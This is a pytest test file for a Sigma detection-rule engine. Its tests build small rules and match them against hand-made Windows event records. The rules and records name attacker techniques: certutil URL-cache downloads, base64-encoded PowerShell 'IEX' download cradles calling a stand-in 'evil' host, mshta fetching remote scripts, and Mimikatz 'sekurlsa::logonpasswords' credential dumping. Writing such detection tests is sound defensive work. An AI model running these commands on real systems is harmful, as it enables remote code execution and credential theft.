"""Sigma semantics, rule by rule: each test writes a small rule, loads it as analysis does (pySigma,
the pipelines, the compiler, the index) and matches hand-made records shaped like the real events."""

from __future__ import annotations

import base64
import textwrap
import uuid

import pytest

from triage.sigma.engine import Engine
from triage.sigma.load import load_rules

SYSMON = {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": "1",
          "Provider_Name": "Microsoft-Windows-Sysmon", "Computer": "WS01"}
SEC = {"Channel": "Security", "EventID": "4688", "Provider_Name": "Microsoft-Windows-Security-Auditing",
       "Computer": "WS01"}


def engine(tmp_path, detection: str, logsource: str = "category: process_creation\n    product: windows",
           extra: str = "") -> tuple[Engine, str]:
    rid = str(uuid.uuid4())
    ls = "\n".join("    " + line.strip() for line in logsource.splitlines())
    det = textwrap.indent(textwrap.dedent(detection).strip("\n"), "    ")
    text = (f"title: test rule\nid: {rid}\nstatus: test\nauthor: triage tests\nlogsource:\n{ls}\n"
            f"detection:\n{det}\nlevel: high\n{extra}\n")
    d = tmp_path / f"r{uuid.uuid4().hex[:8]}"
    d.mkdir()
    (d / "rule.yml").write_text(text, encoding="utf-8")
    rs = load_rules([str(d)], builtin=False, use_cache=False)
    assert not rs.skipped, rs.skipped
    return Engine(rs), rid


def fires(eng_rid, **fields) -> bool:
    eng, rid = eng_rid
    base = SYSMON if "NewProcessName" not in fields and fields.pop("_sec", None) is None else SEC
    rec = {**base, **{k: (str(v) if v is not None else None) for k, v in fields.items()}}
    return rid in {r.id for r in eng.match_fields(rec)}


def test_case_insensitive_wildcards_and_escapes(tmp_path):
    e = engine(tmp_path, r"""
    sel:
        Image|endswith: '\CertUtil.exe'
        CommandLine: '*url?ache*'
    lit:
        CommandLine: 'a\*b'
    condition: sel or lit
    """)
    assert fires(e, Image=r"C:\Windows\System32\certutil.exe", CommandLine="certutil -URLCACHE -f http://x")
    assert not fires(e, Image=r"C:\Windows\System32\certutil.exe", CommandLine="certutil -decode a b")
    assert fires(e, Image="x", CommandLine="a*b")        # escaped star is a literal
    assert not fires(e, Image="x", CommandLine="axxb")


def test_lists_maps_and_all(tmp_path):
    e = engine(tmp_path, """
    sel:
        - CommandLine|contains|all: ['-nop', '-w hidden']
        - ParentImage|endswith: ['\\winword.exe', '\\excel.exe']
    condition: sel
    """)
    assert fires(e, CommandLine="powershell -nop -w hidden -c x")
    assert not fires(e, CommandLine="powershell -nop -c x")
    assert fires(e, ParentImage=r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE")


def test_conditions_of_selections_and_not(tmp_path):
    e = engine(tmp_path, """
    sel_a:
        Image|endswith: '\\rundll32.exe'
    sel_b:
        CommandLine|contains: 'javascript:'
    filter_x:
        User: 'NT AUTHORITY\\SYSTEM'
    filter_y:
        CommandLine|contains: 'shell32.dll'
    condition: all of sel_* and not 1 of filter_*
    """)
    assert fires(e, Image=r"C:\Windows\rundll32.exe", CommandLine='rundll32 javascript:"\\..\\mshtml"', User="C\\bob")
    assert not fires(e, Image=r"C:\Windows\rundll32.exe", CommandLine="rundll32 javascript:x shell32.dll")
    assert not fires(e, Image=r"C:\Windows\rundll32.exe", CommandLine="rundll32 javascript:x",
                     User="NT AUTHORITY\\SYSTEM")
    e2 = engine(tmp_path, """
    a:
        Image|endswith: '\\a.exe'
    b:
        Image|endswith: '\\b.exe'
    c:
        CommandLine|contains: 'go'
    condition: (a or b) and not c
    """)
    assert fires(e2, Image="c:\\b.exe", CommandLine="stop")
    assert not fires(e2, Image="c:\\b.exe", CommandLine="go")
    e3 = engine(tmp_path, """
    a:
        Image|endswith: '\\a.exe'
    b:
        CommandLine|contains: 'x'
    condition: all of them
    """)
    assert fires(e3, Image="c:\\a.exe", CommandLine="xx") and not fires(e3, Image="c:\\a.exe", CommandLine="y")


def test_regex_and_its_flags(tmp_path):
    e = engine(tmp_path, r"""
    sel:
        CommandLine|re: '\s-[eE][nN][cC]\s'
    sel2:
        CommandLine|re|i: 'FROMBASE64'
    sel3:
        CommandLine|re|m: '^second$'
    sel4:
        CommandLine|re|s: 'first.second'
    condition: 1 of sel*
    """)
    assert fires(e, CommandLine="powershell -EnC AAAA")
    assert not fires(e, CommandLine="powershell -encoded")
    assert fires(e, CommandLine="[convert]::frombase64string(x)")
    assert fires(e, CommandLine="first\nsecond\nthird")
    e2 = engine(tmp_path, r"""
    sel:
        CommandLine|re: 'ABC'
    condition: sel
    """)
    assert not fires(e2, CommandLine="abc")  # re is case-sensitive unless |i


def test_regex_with_a_required_run(tmp_path):
    """A regex whose matches all hold a backtick (SigmaHQ's token obfuscation) is searched only in
    values holding one: same result as searching every value."""
    e = engine(tmp_path, r"""
    sel:
        CommandLine|re: '\w+`(?:\w+|-|.)`[\w+|\s]'
    condition: sel
    """)
    assert fires(e, CommandLine="po`wer`shell -c x")
    assert not fires(e, CommandLine="powershell -c x")
    assert not fires(e, CommandLine="a`b")  # the run alone is not a match


def test_cased(tmp_path):
    e = engine(tmp_path, """
    sel:
        CommandLine|cased|contains: 'Invoke-Mimikatz'
    condition: sel
    """)
    assert fires(e, CommandLine="Invoke-Mimikatz -DumpCreds")
    assert not fires(e, CommandLine="invoke-mimikatz")


def test_base64_base64offset_and_utf16(tmp_path):
    e = engine(tmp_path, """
    sel:
        CommandLine|base64offset|contains: 'http://'
    condition: sel
    """)
    for prefix in ("", "a", "ab"):
        b64 = base64.b64encode((prefix + "IEX http://evil/x").encode()).decode()
        assert fires(e, CommandLine=f"powershell -e {b64}"), prefix
    e2 = engine(tmp_path, """
    sel:
        CommandLine|wide|base64offset|contains: 'IEX'
    condition: sel
    """)
    b64 = base64.b64encode("x;IEX (new-object net.webclient)".encode("utf-16-le")).decode()
    assert fires(e2, CommandLine=f"powershell -enc {b64}")
    e3 = engine(tmp_path, """
    sel:
        CommandLine|base64: 'whoami'
    condition: sel
    """)
    assert fires(e3, CommandLine=base64.b64encode(b"whoami").decode())


def test_windash(tmp_path):
    e = engine(tmp_path, """
    sel:
        CommandLine|windash|contains: ' -decode '
    condition: sel
    """)
    for dash in ("-", "/", "\u2013"):
        assert fires(e, CommandLine=f"certutil {dash}decode a b"), dash


def test_cidr_exists_null_numbers_and_fieldref(tmp_path):
    e = engine(tmp_path, """
    sel:
        EventID: 3
        DestinationIp|cidr: '10.0.0.0/8'
        DestinationPort|gte: 4444
        Initiated: 'true'
    condition: sel
    """, logsource="category: network_connection\n    product: windows")
    net = {"EventID": "3"}
    assert fires(e, **net, DestinationIp="10.1.2.3", DestinationPort=4444, Initiated="true")
    assert not fires(e, **net, DestinationIp="11.1.2.3", DestinationPort=4444, Initiated="true")
    assert not fires(e, **net, DestinationIp="10.1.2.3", DestinationPort=443, Initiated="true")
    e2 = engine(tmp_path, """
    sel:
        OriginalFileName|exists: false
        Description: null
        ParentImage|fieldref: Image
    condition: sel
    """)
    assert fires(e2, Image="c:\\x.exe", ParentImage="C:\\X.EXE", Description="")
    assert not fires(e2, Image="c:\\x.exe", ParentImage="C:\\y.exe")
    assert not fires(e2, Image="c:\\x.exe", ParentImage="c:\\x.exe", OriginalFileName="x.exe")


def test_keywords(tmp_path):
    e = engine(tmp_path, """
    keywords:
        - 'mimikatz'
        - 'sekurlsa::*'
    condition: keywords
    """, logsource="product: windows\n    service: security")
    assert fires(e, _sec=1, EventID=4688, CommandLine="run Mimikatz.exe")
    assert fires(e, _sec=1, EventID=4688, CommandLine="x", Other="sekurlsa::logonpasswords")
    assert not fires(e, _sec=1, EventID=4688, CommandLine="notepad")


def test_process_creation_matches_security_4688_with_its_field_names(tmp_path):
    e = engine(tmp_path, """
    sel:
        Image|endswith: '\\mshta.exe'
        ParentImage|endswith: '\\winword.exe'
        CommandLine|contains: 'http'
        User|contains: 'alice'
        IntegrityLevel: 'High'
    condition: sel
    """)
    rec = dict(NewProcessName=r"C:\Windows\System32\mshta.exe", ParentProcessName=r"C:\Office\WINWORD.EXE",
               CommandLine="mshta http://x/a.hta", SubjectUserName="alice", SubjectDomainName="CORP",
               TargetUserName="-", MandatoryLabel="S-1-16-12288")
    assert fires(e, **rec)
    # the event-type condition stays: the same fields on another Security event do not match
    assert not fires(e, **{**rec, "EventID": "4624"})
    assert not fires(e, _sec=1, **{**rec, "Channel": "Application"})


def test_a_branch_naming_a_missing_field_does_not_disable_the_rule(tmp_path):
    e = engine(tmp_path, """
    sel_img:
        - Image|endswith: '\\certutil.exe'
        - OriginalFileName: 'CertUtil.exe'
    sel_cli:
        CommandLine|contains: '-urlcache'
    condition: all of sel_*
    """)
    # 4688 has no OriginalFileName: the Image branch alone decides
    assert fires(e, NewProcessName=r"C:\Windows\System32\certutil.exe", CommandLine="certutil -urlcache -f x")


def test_defender_field_names_with_spaces(tmp_path):
    e = engine(tmp_path, """
    sel:
        EventID: 1116
        ThreatName|contains: 'Mimikatz'
    condition: sel
    """, logsource="product: windows\n    service: windefend")
    eng, rid = e
    rec = {"Channel": "Microsoft-Windows-Windows Defender/Operational", "EventID": "1116",
           "Threat Name": "HackTool:Win32/Mimikatz.D"}
    assert rid in {r.id for r in eng.match_fields(rec)}


@pytest.mark.parametrize("detection,reason", [
    ("sel:\n    Image|expand: '%x%'\ncondition: sel", "placeholder"),
])
def test_unsupported_rules_are_skipped_with_their_reason(tmp_path, detection, reason):
    d = tmp_path / "r"
    d.mkdir()
    det = textwrap.indent(detection, "    ")
    (d / "bad.yml").write_text(f"title: bad\nid: {uuid.uuid4()}\nlogsource:\n    category: process_creation\n"
                               f"    product: windows\ndetection:\n{det}\n", encoding="utf-8")
    (d / "linux.yml").write_text(textwrap.dedent(f"""\
    title: linux
    id: {uuid.uuid4()}
    logsource:
        product: linux
        service: auth
    detection:
        sel:
            x: y
        condition: sel
    """), encoding="utf-8")
    (d / "broken.yml").write_text("title: [unclosed\n", encoding="utf-8")
    rs = load_rules([str(d)], builtin=False, use_cache=False)
    reasons = {s.path: s.reason for s in rs.skipped}
    assert reason in reasons["bad.yml"]
    assert "product 'linux'" in reasons["linux.yml"]
    assert "does not parse" in reasons["broken.yml"]
    assert rs.loaded == 0


def test_compiled_set_is_cached_by_source_hash(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    import triage.sigma.load as load

    monkeypatch.setattr(load, "_LOADED", {})
    d = tmp_path / "rules"
    d.mkdir()
    (d / "a.yml").write_text(textwrap.dedent(f"""\
    title: a
    id: {uuid.uuid4()}
    logsource:
        product: windows
        service: system
    detection:
        sel:
            EventID: 7045
        condition: sel
    """), encoding="utf-8")
    first = load.load_rules([str(d)], builtin=False)
    assert not first.from_cache and list((tmp_path / "cache" / "triage" / "sigma").glob("*.json"))
    load._LOADED.clear()
    again = load.load_rules([str(d)], builtin=False)
    assert again.from_cache and again.key == first.key and len(again.rules) == len(first.rules)
    (d / "a.yml").write_text((d / "a.yml").read_text().replace("7045", "7040"), encoding="utf-8")
    changed = load.load_rules([str(d)], builtin=False)
    assert changed.key != first.key and not changed.from_cache
